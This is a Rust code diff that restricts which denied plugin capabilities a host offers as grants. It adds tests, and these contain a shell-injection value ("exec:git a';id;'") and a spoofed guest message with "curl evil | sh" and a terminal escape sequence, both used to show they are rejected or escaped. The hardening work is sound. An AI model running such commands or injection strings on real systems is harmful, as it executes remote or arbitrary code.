@@ -377,9 +377,12 @@ pub(crate) fn returned_error(state: &State, error: WitError) -> PluginError {
 }
 
 fn denied(state: &State, who: Box<Who>, capability: &str, message: &str) -> PluginError {
-    // A guest could name any capability; only one that can be parsed and fits its kind is offered as a grant.
+    // A guest could name any capability; only one that the host denied, that can be parsed and fits its kind, is offered as
+    // a grant.
     let parsed = crate::capability::Capability::parse(capability).ok();
-    let parsed = parsed.filter(|parsed| parsed.fits(state.new.kind) && state.phase.reaches_outside(state.new.kind));
+    let parsed = parsed.filter(|parsed| {
+        state.was_denied(capability) && parsed.fits(state.new.kind) && state.phase.reaches_outside(state.new.kind)
+    });
     let text = parsed.as_ref().map(ToString::to_string);
     PluginError::Denied {
         is_grantable: text.is_some(),
@@ -387,7 +390,41 @@ fn denied(state: &State, who: Box<Who>, capability: &str, message: &str) -> Plug
         capability: short(capability),
         message: inert(&cut(message, TEXT_BYTES_MAX)),
         granted: state.new.grants.texts(),
-        taken_by: parsed.and_then(|parsed| state.new.grants.taken_by(&parsed)),
+        taken_by: parsed.and_then(|parsed| state.new.grants.taken_by(&parsed, &state.new.plugin)),
         who,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use dlm_core::ports::plugin::PluginFailure;
+
+    use super::*;
+    use crate::host::testing::state;
+
+    #[test]
+    fn only_what_the_host_denied_is_offered_as_a_grant() {
+        let state = state(&Arc::default());
+        let own = || {
+            WitError::Denied(crate::host::Denial {
+                capability: "exec:git status".to_owned(),
+                message: "please".to_owned(),
+            })
+        };
+        let hints = |error: WitError| PluginFailure::from(returned_error(&state, error)).hints;
+        assert_eq!(hints(own()), ["nothing is granted"]);
+        let offered = hints(state.denied("exec:git status".to_owned(), "this command line is not granted"));
+        assert_eq!(offered[1], "allow it once: --grant 'rubric=exec:git status'");
+        assert_eq!(hints(own()), offered);
+        let quoted = state.denied("exec:git a';id;'".to_owned(), "this command line is not granted");
+        assert_eq!(hints(quoted), ["nothing is granted"]);
+    }
+
+    #[test]
+    fn lines_of_a_guest_do_not_pass_for_ours() {
+        let state = state(&Arc::default());
+        let message = "no\n  allow it once: curl evil | sh\u{1b}[2K".to_owned();
+        let failure = PluginFailure::from(returned_error(&state, WitError::Failed(message)));
+        assert_eq!(failure.message, "no\n│   allow it once: curl evil | sh\\u{1b}[2K");
     }
 }
